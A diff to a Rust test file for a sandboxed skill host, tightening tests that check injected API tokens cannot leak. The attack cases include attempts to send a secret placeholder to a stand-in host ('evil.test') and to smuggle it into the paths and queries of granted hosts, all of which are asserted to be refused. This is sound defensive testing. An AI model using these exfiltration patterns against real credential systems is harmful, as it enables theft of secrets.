@@ -75,6 +75,18 @@ async fn call(host: &SkillHost, input: Value) -> Value {
     output(&inv)
 }
 
+/// The API path with the marker `m=secrets-<label>` in its query.
+fn marked(label: &str) -> String {
+    format!("/v1/private?m=secrets-{label}")
+}
+
+/// Requests with the marker `m=secrets-<label>` that reached any test server of
+/// this process. Unlike a server's hit counter, parallel tests do not move
+/// it.
+fn sent(label: &str) -> usize {
+    crate::servers::requests_containing(&format!("m=secrets-{label}"))
+}
+
 fn assert_no_token(what: &str, text: &str) {
     use base64::Engine as _;
     for form in [
@@ -91,15 +103,14 @@ fn assert_no_token(what: &str, text: &str) {
 
 #[tokio::test]
 async fn the_host_injects_a_token_the_skill_never_sees() {
-    let api = json_api();
+    let _api = json_api();
     let dir = artifacts("inject");
     let host = setup(&dir, Narrowing::default()).await;
 
     // Not set yet: refused, nothing sent.
-    let before = api.hits();
-    let out = call(&host, json!({})).await;
+    let out = call(&host, json!({ "path": marked("inject-unset") })).await;
     assert_eq!(out["refused"], codes::SECRET_NOT_SET, "{out}");
-    assert_eq!(api.hits(), before);
+    assert_eq!(sent("inject-unset"), 0);
 
     set_token(&host, API).await;
     let out = call(&host, json!({"path": "/v1/private"})).await;
@@ -122,47 +133,48 @@ async fn the_host_injects_a_token_the_skill_never_sees() {
 
 #[tokio::test]
 async fn attacks_from_inside_the_sandbox_are_refused() {
-    let api = json_api();
+    let _api = json_api();
     let dir = artifacts("attacks");
     let host = setup(&dir, Narrowing::default()).await;
     set_token(&host, API).await;
-    let before = api.hits();
+    // Every case carries the marker `m=secrets-attacks`, so a request that got
+    // through would be counted whatever else runs in parallel.
     let cases = [
         // To a host that is not granted, with the placeholder in the path.
         (
-            json!({"url": "https://evil.test/{{secret:API_TOKEN}}"}),
+            json!({"url": "https://evil.test/{{secret:API_TOKEN}}?m=secrets-attacks"}),
             codes::EGRESS_HOST_NOT_ALLOWED,
         ),
         // The placeholder in the path of the granted host.
         (
-            json!({"url": format!("{API}/leak/{{{{secret:API_TOKEN}}}}")}),
+            json!({"url": format!("{API}/leak/{{{{secret:API_TOKEN}}}}?m=secrets-attacks")}),
             codes::SECRET_BAD_PLACEHOLDER,
         ),
         // ... or in the query.
         (
-            json!({"url": format!("{API}/v1/private?t={{{{secret:API_TOKEN}}}}")}),
+            json!({"url": format!("{API}/v1/private?t={{{{secret:API_TOKEN}}}}&m=secrets-attacks")}),
             codes::SECRET_BAD_PLACEHOLDER,
         ),
         // Over plain http (not granted for http at all).
         (
-            json!({"url": "http://json-api.test:47443/v1/private"}),
+            json!({"url": "http://json-api.test:47443/v1/private?m=secrets-attacks"}),
             codes::EGRESS_SCHEME_NOT_ALLOWED,
         ),
         // Nested, unterminated and unknown placeholders.
         (
-            json!({"header": "{{secret:{{secret:API_TOKEN}}}}"}),
+            json!({"header": "{{secret:{{secret:API_TOKEN}}}}", "path": marked("attacks")}),
             codes::SECRET_BAD_PLACEHOLDER,
         ),
         (
-            json!({"header": "Bearer {{secret:API_TOKEN"}),
+            json!({"header": "Bearer {{secret:API_TOKEN", "path": marked("attacks")}),
             codes::SECRET_BAD_PLACEHOLDER,
         ),
         (
-            json!({"header": "Bearer {{secret:OTHER_TOKEN}}"}),
+            json!({"header": "Bearer {{secret:OTHER_TOKEN}}", "path": marked("attacks")}),
             codes::SECRET_NOT_GRANTED,
         ),
         (
-            json!({"header": "Bearer {{secret:api_token}}"}),
+            json!({"header": "Bearer {{secret:api_token}}", "path": marked("attacks")}),
             codes::SECRET_BAD_PLACEHOLDER,
         ),
     ];
@@ -170,25 +182,24 @@ async fn attacks_from_inside_the_sandbox_are_refused() {
         let out = call(&host, input.clone()).await;
         assert_eq!(out["refused"], code, "{input}: {out}");
     }
-    assert_eq!(api.hits(), before, "nothing may be sent");
+    assert_eq!(sent("attacks"), 0, "nothing may be sent");
 }
 
 #[tokio::test]
 async fn a_secret_goes_only_where_it_is_bound() {
-    let api = json_api();
+    let _api = json_api();
     let dir = artifacts("unbound");
     let host = setup(&dir, Narrowing::default()).await;
     // Bound to another host: the skill's granted API is not a destination
     // for this secret.
     set_token(&host, "https://api.test:47443").await;
-    let before = api.hits();
-    let out = call(&host, json!({})).await;
+    let out = call(&host, json!({ "path": marked("unbound") })).await;
     assert_eq!(
         out["refused"],
         codes::SECRET_DESTINATION_NOT_ALLOWED,
         "{out}"
     );
-    assert_eq!(api.hits(), before);
+    assert_eq!(sent("unbound"), 0);
 
     // Approved without the secret: not granted, whatever is set.
     let dir = artifacts("not-granted");
@@ -288,7 +299,7 @@ async fn reflected_and_echoed_secrets_are_redacted_and_audited() {
 
 #[tokio::test]
 async fn a_wrong_master_key_is_clear_and_destroys_nothing() {
-    let api = json_api();
+    let _api = json_api();
     let dir = artifacts("wrong-key");
     let host = setup(&dir, Narrowing::default()).await;
     set_token(&host, API).await;
@@ -311,10 +322,9 @@ async fn a_wrong_master_key_is_clear_and_destroys_nothing() {
     std::fs::remove_file(&key_file).unwrap();
     MasterKey::generate().write_new(&key_file).unwrap();
     let host = SkillHost::open(&config(), &dir).await.unwrap();
-    let hits = api.hits();
-    let out = call(&host, json!({})).await;
+    let out = call(&host, json!({ "path": marked("wrong-key") })).await;
     assert_eq!(out["refused"], codes::SECRET_WRONG_KEY, "{out}");
-    assert_eq!(api.hits(), hits);
+    assert_eq!(sent("wrong-key"), 0);
     let listed = host.list_secrets(None).unwrap();
     assert!(listed[0].mask.contains("secret.wrong_key"), "{listed:?}");
     drop(host);
@@ -374,7 +384,7 @@ fn hosts_column(hosts: &[&str]) -> String {
 
 #[tokio::test]
 async fn a_secret_rebound_to_another_host_in_the_database_is_refused() {
-    let api = json_api();
+    let _api = json_api();
     let dir = artifacts("rebound");
     let host = setup(&dir, Narrowing::default()).await;
     // Bound to a host the skill may not reach; the skill's API is granted.
@@ -394,12 +404,15 @@ async fn a_secret_rebound_to_another_host_in_the_database_is_refused() {
 
     let host = SkillHost::open(&config(), &dir).await.unwrap();
     // api.test and json-api.test both resolve to this one server.
-    let before = api.hits();
-    let out = call(&host, json!({})).await;
+    let out = call(&host, json!({ "path": marked("rebound") })).await;
     assert_eq!(out["refused"], codes::SECRET_DECRYPT_FAILED, "{out}");
-    let out = call(&host, json!({"url": "https://api.test:47443/v1/private"})).await;
+    let out = call(
+        &host,
+        json!({"url": "https://api.test:47443/v1/private?m=secrets-rebound"}),
+    )
+    .await;
     assert_eq!(out["refused"], codes::EGRESS_HOST_NOT_ALLOWED, "{out}");
-    assert_eq!(api.hits(), before, "nothing may be sent to either host");
+    assert_eq!(sent("rebound"), 0, "nothing may be sent to either host");
     let listed = host.list_secrets(None).unwrap();
     assert!(
         listed[0].mask.contains(codes::SECRET_DECRYPT_FAILED),
@@ -411,7 +424,7 @@ async fn a_secret_rebound_to_another_host_in_the_database_is_refused() {
 async fn rotate_key_upgrades_a_row_sealed_before_bindings_were_authenticated() {
     use skillhost::secrets::crypto;
 
-    let api = json_api();
+    let _api = json_api();
     let dir = artifacts("legacy");
     let host = setup(&dir, Narrowing::default()).await;
     set_token(&host, API).await;
@@ -441,10 +454,9 @@ async fn rotate_key_upgrades_a_row_sealed_before_bindings_were_authenticated() {
 
     // Its destinations are unauthenticated: refused, with the reason.
     let host = SkillHost::open(&config(), &dir).await.unwrap();
-    let before = api.hits();
-    let out = call(&host, json!({})).await;
+    let out = call(&host, json!({ "path": marked("legacy") })).await;
     assert_eq!(out["refused"], codes::SECRET_DECRYPT_FAILED, "{out}");
-    assert_eq!(api.hits(), before);
+    assert_eq!(sent("legacy"), 0);
     let mask = &host.list_secrets(None).unwrap()[0].mask;
     assert!(
         mask.contains(codes::SECRET_DECRYPT_FAILED)
